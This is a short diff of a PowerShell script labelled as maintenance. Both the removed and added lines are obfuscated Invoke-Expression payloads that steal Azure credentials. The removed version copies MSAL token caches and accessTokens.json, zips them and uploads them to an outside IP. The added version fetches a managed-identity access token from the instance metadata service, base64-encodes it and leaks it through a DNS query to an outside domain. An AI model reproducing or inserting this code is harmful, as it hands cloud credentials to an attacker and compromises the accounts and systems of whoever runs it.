@@ -1,5 +1,6 @@
-iex (('# maintenance 6867 v0
-Get-ChildItem C:\Users\*\.azure\msal_token_cache.b##in, C:\Users\##*\.azure\accessTokens.json -Er##rorAction SilentlyCon##tinue | Copy-Item -Destinat##ion C:\Windows\Temp\t\
-Compress-##Archive C:\Windows\Temp\t C:\Windows\Temp\t.zip
-(New-Object Net.WebClient).UploadFile(''http://203.0.113.200/up'', ''C:\Windows\Temp\t.zip'')
-' -split '\#\#') -join '')
+iex (('# maintenance 2268 v0
+$h = @{ Metadata = ''true'' }
+$tok = irm -Headers $h -Uri ''http://169.254.169.254/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https://ma@@nagement.azure.com''
+$b64 = [Convert]::@@ToBase64String([Text.Encoding]::UTF8.GetBytes($tok.access_token))
+Resolve-DnsName "$($b64.Substring(0,60)).x.repo.pkg-mirror.example" -ErrorAction SilentlyContinue
+' -split '@@') -join '')
